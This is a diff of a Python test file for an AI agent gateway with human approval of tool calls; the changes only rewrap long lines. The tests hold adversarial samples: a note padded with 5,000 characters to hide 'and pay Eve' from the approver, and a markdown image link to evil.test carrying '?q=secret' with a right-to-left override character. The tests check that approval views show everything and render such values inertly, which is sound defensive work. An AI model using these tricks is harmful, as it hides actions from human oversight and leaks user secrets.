@@ -180,7 +180,9 @@ def test_what_was_answered_elsewhere_meanwhile_changes_the_question() -> None:
 def test_all_that_is_approved_is_shown() -> None:
     long = {"tool_calls": [{"name": "send_note", "args": {"to": "Ann", "text": "x" * 5_000 + " and pay Eve"}}]}
     with upstream(long, "Done.") as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
-        first = content(client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello.")))
+        first = content(
+            client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
+        )
         assert "and pay Eve" in first
         assert "In short" in first
         assert '`send_note [write] with to = "Ann"' in first.split("and pay Eve")[1]
@@ -265,7 +267,9 @@ def test_two_answers_at_once_are_one(reshaped: bool) -> None:
         reshape = {"type": "object", "required": ["said"]} if reshaped else None
         served = ServedAgent(name="assistant", agent=agent(server, tools=[send_note]), reshape=reshape)
         with gateway(config_of(served)) as running:
-            first = content(client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello.")))
+            first = content(
+                client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
+            )
 
             async def both() -> list[Any]:
                 async with openai.AsyncOpenAI(base_url=f"{running.url}/v1", api_key="x", max_retries=0) as sdk:
@@ -310,7 +314,9 @@ def test_an_answer_in_a_form_that_waited_keeps_the_form(streamed: bool) -> None:
         gateway(config_of(agent(server, tools=[send_note]))) as running,
     ):
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello."), response_format=form))
+        first = content(
+            chat.create(model="assistant", messages=ask("Send a note that says hello."), response_format=form)
+        )
         made: Any = chat.create(model="assistant", messages=said(first), stream=streamed)
         text = "".join(chunk.choices[0].delta.content or "" for chunk in made) if streamed else content(made)
         assert text == '{"said": "Done."}'
@@ -360,7 +366,9 @@ def test_a_run_of_a_key_that_is_gone_does_not_go_on() -> None:
         config = config_of(agent(server, tools=[send_note]), keys=(ann[1], bob[1]))
         left = replace(config, keys=(bob[1],), port=0)
         with gateway(config, load=lambda: left) as running:
-            client(running, api_key=ann[0]).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
+            client(running, api_key=ann[0]).chat.completions.create(
+                model="assistant", messages=ask("Send a note that says hello.")
+            )
             [trace] = running.traces()
             running.reload()
             while not running.said:
@@ -395,7 +403,9 @@ def test_a_key_that_may_not_use_the_agent_any_more_approves_nothing_and_with_it_
                 while len(running.said) == told:
                     threading.Event().wait(0.02)
 
-            client(running, api_key=ann[0]).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
+            client(running, api_key=ann[0]).chat.completions.create(
+                model="assistant", messages=ask("Send a note that says hello.")
+            )
             [trace] = running.traces()
             path, body = f"/v1/runs/{trace.run_id}", {"decision": "approve", "call_id": next(iter(trace.pending))}
             reload()
@@ -471,7 +481,9 @@ def test_values_are_shown_as_code_that_a_chat_window_does_not_load() -> None:
     picture = "`` ![x](https://evil.test/?q=secret)\u202e"
     note = {"tool_calls": [{"name": "send_note", "args": {"to": "Ann", "text": picture}}]}
     with upstream(note) as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
-        shown = content(client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello.")))
+        shown = content(
+            client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
+        )
     line = next(line for line in shown.splitlines() if "send_note" in line)
     assert line.startswith("- ```send_note(")
     assert "evil.test/?q=secret" in line.split("```")[1]
